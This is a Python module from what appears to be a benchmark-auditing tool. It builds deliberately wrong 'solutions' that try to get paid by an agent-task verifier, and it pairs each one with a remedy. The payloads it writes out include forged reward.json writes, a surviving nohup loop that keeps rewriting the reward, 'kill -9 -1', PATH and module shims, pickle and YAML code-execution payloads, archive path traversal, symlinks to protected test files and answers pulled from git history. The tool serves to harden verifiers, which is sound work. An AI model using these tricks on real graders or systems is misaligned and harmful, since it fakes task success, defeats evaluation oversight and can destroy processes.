"""Attacks on a verifier: what an agent can do in its phase to be paid without a solution.

Each attack is a solution that is wrong by construction. Those that forge a verdict touch no file that the task asks
for; those that imitate a solution write its files with a content that cannot be right.
"""

import difflib
import json
import re
import shlex
from collections.abc import Callable, Iterable, Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from functools import partial
from pathlib import PurePosixPath

from plaudit.audit.attacks.patterns import examples_of
from plaudit.findings import Severity
from plaudit.harbor.audit.hiding import hidden_in
from plaudit.harbor.audit.mutants import write_members
from plaudit.harbor.audit.products import Product, Products
from plaudit.harbor.audit.surface import MOST_FOLDERS, Surface
from plaudit.harbor.audit.tampering import SUMS, Tampering
from plaudit.harbor.task import Task
from plaudit.harbor.trial import Solution

MOST_COUNTED = 5
"""How often each text stands in a file, for tests that count it."""
JUNK = "plaudit: this is not a solution"
WRITE = "echo 1 > /logs/verifier/reward.txt && echo '{\"reward\": 1.0}' > /logs/verifier/reward.json"
FORGE = f"{{ {WRITE} && kill -9 -1; }} 2>/dev/null; exit 0"
"""Write the reward and kill the verifier, if permissions allow it; report success otherwise."""
_ARGUMENTS = json.dumps(["sh", "-c", FORGE])
PYTHON = f"__import__('posix').execv('/bin/sh', {_ARGUMENTS})\n"
PICKLE = b"cposix\nsystem\n(V%s\ntR." % FORGE.encode("unicode_escape")
YAML = f"!!python/object/apply:os.system [{json.dumps(FORGE)}]\n"
# What forges the verdict in place of a file, by the end of its name; nothing in data, otherwise a shell script.
HOSTILE = {
    ("pytest.toml",): "[pytest]\naddopts = ['--collect-only']\n",
    ("pytest.ini", "tox.ini"): "[pytest]\naddopts = --collect-only\n",
    ("setup.cfg",): "[tool:pytest]\naddopts = --collect-only\n",
    ("pyproject.toml",): "[tool.pytest.ini_options]\naddopts = '--collect-only'\n",
    ("package.json",): json.dumps({"name": "a", "scripts": dict.fromkeys(("test", "start", "build"), FORGE)}),
    ("akefile", ".mk"): f"all:\n\t@{FORGE}\n%:\n\t@{FORGE}\n",
    (".py",): PYTHON,
    (".pl", ".pm"): f"BEGIN {{ exec {{'/bin/sh'}} {_ARGUMENTS[1:-1]} }}\n1;\n",
    (".js", ".cjs"): f"require('child_process').spawnSync('/bin/sh', [{_ARGUMENTS[7:]}); process.exit(0)\n",
    (".rb",): f"exec({_ARGUMENTS[1:-1]})\n",
    (".toml", ".ini", ".cfg", ".json", ".yaml", ".yml", ".xml", ".txt", ".csv"): "",
}  # fmt: skip
SCRIPT = f"#!/bin/sh\n{FORGE}\n"
MOST_PLANTED, MOST_LINKS, MOST_UP, MOST_COMPARED = 600, 6, 8, 1 << 14
_LITERAL = re.compile(r"\"((?:[^\"\\\n]|\\.)*)\"|'((?:[^'\\\n]|\\.)*)'")
_INNER = re.compile(r"'([^'\n]+)'")  # also within double quotes
_GREP = re.compile(r"\bgrep\s+(?:-\S+\s+)*([^\s'\"]+)")
IMITATED = {
    "stub solution": "check results on inputs, not that files or functions exist",
    "hard-coded output": "test inputs that the instruction does not show",
    "grep-based result": "compare parsed results; do not search for a text",
}
MODE_REMEDY = 'declare environment_mode = "separate", or run the agent as another user and clean up before verifying'


@dataclass(frozen=True, slots=True)
class Attack:
    """A solution that must earn nothing, what kind of hole it shows, and what to do about it."""

    kind: str
    solution: Solution
    remedy: str
    severity: Severity = Severity.ERROR

    @property
    def witness(self) -> str:
        """The action of the agent."""
        texts = {
            path: content.decode(errors="replace")[:600] if isinstance(content, bytes) else content
            for path, content in self.solution.files.items()
        }
        return "".join(f"{path}:\n{text}\n" for path, text in texts.items()) + self.solution.command


@dataclass(frozen=True, slots=True)
class Seen:
    """The files and values that an agent can see before it begins, and results of the solution and of mutants."""

    files: dict[str, bytes]
    """Those of the image."""
    results: list[str]
    """What the solution gives for data of the image, as Python literals."""
    answering: list[bytes | None]
    """For each required product, a program that gives the results which the instruction shows."""
    shown: list[str] = field(default_factory=list)
    """Values that the instruction shows, first those that the solution gives."""
    usual: list[str] = field(default_factory=list)
    """Its most frequent results, where it has several."""
    wrong: dict[str, bytes] = field(default_factory=dict)
    """Results of the right form that the verifier rejects."""


def all_attacks(task: Task, mode: str, products: Products, surface: Surface, seen: Seen) -> list[Attack]:
    """Every attack on a task whose solution leaves `products`."""
    tests = test_texts(task)
    return [
        *_in_advance(),
        *_replacements(products, surface),
        *_tampered(tests, products, surface, seen),
        *(_links(task, products, surface) if mode == "shared" else []),
        *_evaluated(products),
        *_leaks(task, products, seen.files),
        *_imitations(task, tests, products, seen),
    ]


def _in_advance() -> Iterator[Attack]:
    yield Attack("forged reward file", Solution("reward files written in advance", command=WRITE), MODE_REMEDY)
    draft, reward = "/logs/verifier/.draft", "/logs/verifier/reward.json"  # moved, so that no reader sees half a file
    write = f"echo '{{\"reward\": 1.0}}' > {draft}; mv -f {draft} {reward}"
    loop = f"trap '' HUP INT TERM; while :; do {write}; done 2>/dev/null"
    command = f"nohup setsid bash -c {shlex.quote(loop)} >/dev/null 2>&1 &"
    yield Attack(
        "surviving process", Solution("a process that goes on writing the reward", command=command), MODE_REMEDY
    )


def _replacements(products: Products, surface: Surface) -> Iterator[Attack]:
    """Replace every file that the verifier would run, import or read by one that forges the verdict."""
    shims = [path for path in surface.programs if PurePosixPath(path).name in surface.run]
    hooks = [path for path in surface.programs if path not in shims]
    starts = [f"{folder}/{name}.py" for folder in surface.folders for name in ("sitecustomize", "usercustomize")]
    submitted = {PurePosixPath(product.path).stem for product in products.files}
    names = [name for name in surface.modules if name not in submitted]
    modules = [f"{folder}/{name}.py" for folder in surface.folders for name in names][:MOST_PLANTED]
    libraries = [path for path in surface.missing if path.endswith((".pm", ".js", ".cjs", ".rb"))]
    folders: dict[str, list[str]] = {}
    for path in surface.missing:
        if path not in libraries:
            folders.setdefault(str(PurePosixPath(path).parent), []).append(path)
    importing = "import only what lies beside the tests: python3 -I, pytest --import-mode=importlib"
    reading = "read configuration, start-up files, hooks and checkers from /tests; pytest: --noconftest, -c, --rootdir"
    planted = [
        ("PATH shim", "programs", shims, f"set PATH to system folders in test.sh; {MODE_REMEDY}"),
        ("test configuration", "start-up files", starts, f"run python3 -I; {MODE_REMEDY}"),
        ("module shadowing", "modules", [*modules, *libraries], importing),
        ("test configuration", "programs that are looked for", hooks, reading),
        *(("test configuration", "code", paths, reading) for paths in list(folders.values())[:MOST_FOLDERS]),
        ("test configuration", "code", surface.existing, reading),
    ]
    for kind, what, paths, remedy in planted:
        texts: dict[str, list[str]] = {}
        for path in paths:
            text = next((text for ends, text in HOSTILE.items() if path.endswith(ends)), SCRIPT)
            if text:
                texts.setdefault(text, []).append(path)
        command = "; ".join(_write(text, each) for text, each in texts.items())
        if command:
            yield Attack(kind, Solution(f"{what} replaced", command=command), remedy)


def _write(text: str, paths: Iterable[str]) -> str:
    """A command that writes a text to paths, wherever it may."""
    listed = " ".join(map(shlex.quote, paths))
    write = f'mkdir -p "${{p%/*}}"; rm -f "$p"; printf %s {shlex.quote(text)} > "$p"; chmod +x "$p"'
    return f"PATH=/usr/bin:/bin; for p in {listed}; do {write}; done 2>/dev/null"


def _tampered(tests: str, products: Products, surface: Surface, seen: Seen) -> Iterator[Attack]:
    """Other contents for files that the verifier reads, together with results that it rejects alone."""
    sums = [word for word in SUMS if word in tests]
    remedy = "read references, settings and results of checks from /tests, or from a folder that test.sh makes"
    right = {each.path: each.content for each in products.required}
    words = _literals(tests) * MOST_COUNTED
    for name, files in Tampering(right, seen.wrong, seen.files, words, sums).variants(surface):
        touch = f"sleep 0.01; touch -c {' '.join(map(shlex.quote, files))} 2>/dev/null; true"  # newer than the results
        yield Attack("forged reward file", Solution(name, {**seen.wrong, **files}, touch), remedy)


def _links(task: Task, products: Products, surface: Surface) -> Iterator[Attack]:
    """Links to the files of the tests in place of results, the most similar ones first, and of the log."""

    def likeness(target: str, product: Product) -> float:
        file = task.folder / target.lstrip("/")
        text = file.read_bytes()[:MOST_COMPARED] if file.is_file() else b""
        return difflib.SequenceMatcher(None, text, product.content[:MOST_COMPARED]).quick_ratio()

    targets = {
        each.path: sorted(surface.protected, key=partial(likeness, product=each), reverse=True)[:MOST_LINKS]
        for each in products.required
    }
    for rank in zip(*targets.values(), strict=True):
        linked = dict(zip(targets, rank, strict=True))
        command = "; ".join(
            f"mkdir -p {shlex.quote(path.rpartition('/')[0])}; ln -sf {shlex.quote(target)} {shlex.quote(path)}"
            for path, target in linked.items()
        )
        remedy = "refuse results that are links; read them as the agent's user"
        yield Attack("symlink", Solution(f"links to {', '.join(dict.fromkeys(rank))}", command=command), remedy)
    for target in surface.protected[:MOST_LINKS]:
        command = f"ln -sf {shlex.quote(target)} /logs/verifier/test-stdout.txt"
        remedy = 'Harbor itself writes the log through the link: declare environment_mode = "separate"'
        yield Attack("symlink", Solution(f"the log as a link to {target}", command=command), remedy, Severity.WARNING)


def _evaluated(products: Products) -> Iterator[Attack]:
    """Code in place of results: of data, of settings that are sourced, of a program that is imported."""
    parse = "parse results (json, ast.literal_eval, float); never evaluate or unpickle them"
    read = "read settings as text, or run the script in a process of its own"
    divide = "run the submission in a process of its own as another user, and decide by its output"
    script = f'#!/bin/bash\n[ "$0" = "$BASH_SOURCE" ] && exit 1\n{FORGE}\n'
    for name, languages, code, remedy, severity in (
        ("code in place of a result", ("text", "json"), PYTHON.encode(), parse, Severity.ERROR),
        ("YAML that runs code", ("text",), YAML.encode(), parse, Severity.ERROR),
        ("a pickle that runs code", ("binary",), PICKLE, parse, Severity.ERROR),
        ("a sourced script that ends the verifier", ("shell",), script.encode(), read, Severity.ERROR),
        ("a submission that writes the reward and exits", ("python",), PYTHON.encode(), divide, Severity.WARNING),
    ):
        if products.required and all(each.language in languages for each in products.required):
            files = dict.fromkeys((each.path for each in products.required), code)
            yield Attack("verifier's rights", Solution(name, files), remedy, severity)
    if products.required and all(each.language == "archive" for each in products.required):
        outside = {f"{'../' * up}logs/verifier/reward.json": b'{"reward": 1.0}' for up in range(1, MOST_UP)}
        files = {each.path: write_members(each.content, outside) for each in products.required}
        remedy = "extract archives with a filter: tarfile's data_filter, or as another user"
        yield Attack("verifier's rights", Solution("an archive that writes outside its folder", files), remedy)


def _leaks(task: Task, products: Products, image_files: dict[str, bytes]) -> Iterator[Attack]:
    """Answers that the agent can read in its image, also in archives and compressed files."""
    solution_texts = {_bare(path.read_bytes()) for path in (task.folder / "solution").rglob("*") if path.is_file()}
    commands = {
        f"{path} is the solution": f"{'python3' if path.endswith('.py') else 'bash'} {shlex.quote(path)}"
        for path, content in image_files.items()
        if len(content.strip()) > 3 and _bare(content) in solution_texts
    }
    if products.required and any("/.git/" in path for path in image_files):
        paths = ((shlex.quote(each.path), each.blob) for each in products.required)
        loop = "; ".join(f"git -C $r cat-file -p {blob} > {path}.p && mv {path}.p {path}" for path, blob in paths)
        repositories = "$(find / -name .git -type d -not -path '/proc/*' -printf '%h ')"
        trust = "git config --global --add safe.directory '*'"
        command = f"{trust}; for r in {repositories}; do {loop}; done 2>/dev/null; true"
        commands["a file of the repository's history"] = command
    remedy = "keep the solution, the expected results and their history out of environment/"
    for name, command in commands.items():
        yield Attack("answer in the image", Solution(name, command=command), remedy)
    packed = {
        f"{name} in {path}": text for path, content in image_files.items() for name, text in hidden_in(content).items()
    }
    copies = {
        each.path: (path, content)
        for each in products.required
        for path, content in {**image_files, **packed}.items()
        if path != each.path and _is_answer(path, content, each)
    }
    if copies:
        name = f"copies of {', '.join(path for path, _ in copies.values())}"
        files = {path: content for path, (_, content) in copies.items()}
        yield Attack("answer in the image", Solution(name, files), remedy)


def _bare(script: bytes) -> bytes:
    """A script without the line that names its interpreter."""
    return re.sub(rb"\A#![^\n]*\n", b"", script).strip()


def _is_answer(path: str, content: bytes, product: Product) -> bool:
    if not _is_same(content, product.content):
        return False
    telling = re.search(r"answer|solution|expected|secret|gold|oracle|key|result|reference", path.lower())
    return len(content.strip()) >= 12 or bool(content.strip() and telling)


def _is_same(one: bytes, other: bytes) -> bool:
    """Whether two files differ only in blanks, or are equal as JSON."""
    with suppress(ValueError, RecursionError):
        return bool(json.loads(one) == json.loads(other))
    return one.split() == other.split()


def _imitations(task: Task, tests: str, products: Products, seen: Seen) -> Iterator[Attack]:
    """Files with the right names and a content that is wrong."""
    required, literals = products.required, _literals(tests)
    if not required:
        return
    visible = [*seen.results, *seen.shown] if all(each.reads_input for each in required) else []
    answering = dict(zip((each.path for each in required), seen.answering, strict=False))
    constants = [
        *(("stub solution", each) for each in ("None", "0", "1", "True", "''", "[]")),
        *(("hard-coded output", each) for each in visible),
        *(("stub solution", each) for each in seen.usual),
    ]
    makers: list[tuple[str, str, Callable[[Product], bytes | None]]] = [
        ("stub solution", "empty files", lambda _: b""),
        *(
            (kind, f"programs that give {each}", partial(Product.with_constant, constant=each))
            for kind, each in constants
        ),
        ("stub solution", "programs that return their input", Product.echoing),
        ("stub solution", "other numbers in the same form", partial(Product.disguised, instruction=task.instruction)),
        ("hard-coded output", "programs that give the shown results only", lambda each: answering.get(each.path)),
    ]
    if literals:
        every = partial(Product.stuffed, junk=JUNK, literals=literals * MOST_COUNTED)
        makers.append(("grep-based result", "files with every text that the tests look for", every))
    tried = [[each.content for each in required]]
    for kind, name, maker in makers:
        contents = [content for each in required if (content := maker(each)) is not None]
        if len(contents) == len(required) and contents not in tried:
            tried.append(contents)
            solution = Solution(name, dict(zip((each.path for each in required), contents, strict=True)))
            yield Attack(kind, solution, IMITATED[kind])


def _literals(tests: str) -> list[str]:
    """The texts that tests may look for."""
    texts = [first or second for first, second in _LITERAL.findall(tests)]
    texts += _GREP.findall(tests) + _INNER.findall(tests)
    plain = [
        text.strip("^$")
        for text in texts
        if 1 < len(text) <= 80 and not text.startswith(("/", "-", "$")) and "\\n" not in text
    ]
    matching = [each.text for text in plain for each in examples_of(text, "a")]
    return list(dict.fromkeys([*plain, *(re.sub(r"\\(.)", r"\1", text) for text in plain), *matching]))[:80]


def test_texts(task: Task) -> str:
    """The texts of all files of the task's tests."""
    files = (
        path for path in sorted((task.folder / "tests").rglob("*")) if path.is_file() and path.stat().st_size < 1 << 18
    )
    return "\n".join(path.read_text(encoding="utf-8", errors="replace") for path in files)
